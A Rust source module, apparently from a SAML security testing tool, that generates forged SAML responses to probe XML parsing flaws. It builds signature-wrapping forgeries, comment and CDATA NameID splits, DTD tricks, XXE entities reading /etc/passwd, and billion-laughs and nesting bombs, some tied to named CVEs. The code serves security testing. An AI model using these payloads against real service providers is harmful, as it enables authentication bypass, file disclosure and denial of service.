//! Attacks on the parser: what one program reads and another does not.

use alloc::{
    format,
    string::{String, ToString},
    vec,
    vec::Vec,
};

use super::{
    Genuine, Message,
    document::{Document, escaped},
};
use crate::{dsig, saml::names::PROTOCOL};

type Messages = Vec<Message>;

fn forms(documents: impl IntoIterator<Item = String>) -> Messages {
    documents.into_iter().map(|xml| Message::form(&xml)).collect()
}

/// The genuine document with a forged Assertion before the signed one: what a trick of the parser must hide.
fn forged_before(genuine: &Genuine<'_>) -> Option<String> {
    let document = genuine.document.assertion_signed()?;
    let forged = document.forged(genuine.victim, "");
    Some(document.around(&format!("{forged}{}", document.signed_assertion())))
}

/// A document type that one of two parsers sees.
pub(super) fn attribute_list(genuine: &Genuine<'_>) -> Messages {
    const DECLARED: &str = "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED \"urn:x\"><!ATTLIST \
                            Assertion ID ID #IMPLIED>]>";
    let forged = forged_before(genuine).map(|xml| format!("{DECLARED}{}", without_declaration(&xml)));
    let genuine = format!("{DECLARED}{}", without_declaration(&genuine.document.source));
    forms(forged.into_iter().chain([genuine]))
}

/// The root element on, without an XML declaration in front.
fn without_declaration(xml: &str) -> &str {
    match xml.split_once("?>") {
        Some((declaration, rest)) if declaration.trim_start().starts_with("<?xml ") => rest.trim_start(),
        _ => xml,
    }
}

/// A comment that ends the name where text is read up to the first child.
pub(super) fn comment_in_name(genuine: &Genuine<'_>) -> Messages {
    split(genuine, |first, second| format!("{first}<!-- -->{second}"), Split::Comment)
}

/// The same with a CDATA section: it is text, and the whole of it counts.
pub(super) fn cdata_in_name(genuine: &Genuine<'_>) -> Messages {
    split(genuine, |first, second| format!("{first}<![CDATA[{second}]]>"), Split::Cdata)
}

#[derive(Clone, Copy, Eq, PartialEq)]
enum Split {
    Comment,
    Cdata,
}

/// The genuine name, split; and with the key somebody else's whose name begins with the victim's.
fn split(genuine: &Genuine<'_>, join: impl Fn(&str, &str) -> String, kind: Split) -> Messages {
    let document = &genuine.document;
    let name = document.text(&document.name_id);
    let middle = name.find('@').filter(|at| *at > 0).unwrap_or(0);
    let (first, second) = name.split_at_checked(middle).unwrap_or((name, ""));
    let mut documents = vec![document.renamed(&join(first, second))];
    if let (Split::Comment, Some(key), Some(unsigned)) = (kind, genuine.idp_key, document.unsigned()) {
        let longer = unsigned.renamed(&join(&escaped(genuine.victim), ".attacker.example"));
        documents.extend(dsig::sign(&longer, &unsigned.assertion.id, key).ok());
    }
    forms(documents)
}

/// Two documents in one.
pub(super) fn two_roots(genuine: &Genuine<'_>) -> Messages {
    let Some(unsigned) = genuine.document.unsigned() else { return Vec::new() };
    let forged = unsigned.around(&unsigned.forged(genuine.victim, ""));
    let forged = without_declaration(&forged).to_string();
    let source = without_declaration(&genuine.document.source);
    forms([format!("{forged}{source}"), format!("{source}{forged}")])
}

/// Markup as text, which a program that writes what it has read may turn into markup again (CVE-2021-32796).
pub(super) fn escaped_markup(genuine: &Genuine<'_>) -> Messages {
    let Some(document) = genuine.document.assertion_signed() else { return Vec::new() };
    let forged = escaped(&document.forged(genuine.victim, ""));
    let message = format!("<samlp:StatusMessage xmlns:samlp=\"{PROTOCOL}\">{forged}</samlp:StatusMessage>");
    let status = super::document::inside(document.text(&document.status), &message);
    forms([document.edited(vec![(document.status.clone(), &status)])])
}

/// Names that change when they are written again (CVE-2020-29509, -29510, -29511).
pub(super) fn odd_names(genuine: &Genuine<'_>) -> Messages {
    let with = |odd: &str| forged_before(genuine).map(|xml| xml.replacen(' ', &format!(" {odd} "), 1));
    let attributes = [":attr=\"x\"", "a:b:c=\"x\"", "xmlns:=\"urn:x\"", "xmlns:a=\"\""].map(with);
    let directive = forged_before(genuine).map(|xml| format!("<!x <!-- -->>{}", without_declaration(&xml)));
    forms(attributes.into_iter().chain([directive]).flatten())
}

/// An entity in the place of the name.
pub(super) fn entity_for_name(genuine: &Genuine<'_>) -> Messages {
    let document = &genuine.document;
    let named = document.renamed("&victim;");
    let victim = escaped(genuine.victim).replace('"', "&quot;");
    let declared =
        format!("<!DOCTYPE Response [<!ENTITY victim \"{victim}\">]>{}", without_declaration(&named));
    forms([declared, named])
}

/// Entities that fetch, and entities that explode.
pub(super) fn entities(genuine: &Genuine<'_>) -> Messages {
    let named = genuine.document.renamed("&x;");
    let named = without_declaration(&named);
    let mut laughs = String::from("<!ENTITY a0 \"ha\">");
    for (inner, outer) in (0..9).zip(1..) {
        laughs.push_str(&format!("<!ENTITY a{outer} \"{}\">", format!("&a{inner};").repeat(10)));
    }
    let declarations = [
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">".to_string(),
        "<!ENTITY x SYSTEM \"http://127.0.0.1:9/x\">".to_string(),
        format!("{laughs}<!ENTITY x \"&a9;\">"),
    ];
    forms(declarations.iter().map(|declared| format!("<!DOCTYPE Response [{declared}]>{named}")))
}

/// More depth, attributes or namespaces than any message has.
pub(super) fn bombs(genuine: &Genuine<'_>) -> Messages {
    let Some(document) = genuine.document.assertion_signed() else { return Vec::new() };
    let hosted = |content: &str| extended(&document, content);
    let deep = format!("{}{}", "<x xmlns=\"urn:x\">".repeat(5000), "</x>".repeat(5000));
    let attributes: String = (0..5000).map(|n| format!(" a{n}=\"\"")).collect();
    let namespaces: String = (0..20_000).map(|n| format!("<p{n}:x xmlns:p{n}=\"urn:{n}\"/>")).collect();
    forms([hosted(&deep), hosted(&format!("<x xmlns=\"urn:x\"{attributes}/>")), hosted(&namespaces)])
}

fn extended(document: &Document, content: &str) -> String {
    let extensions = format!("<samlp:Extensions xmlns:samlp=\"{PROTOCOL}\">{content}</samlp:Extensions>");
    document.around_with_head(&extensions, document.signed_assertion())
}
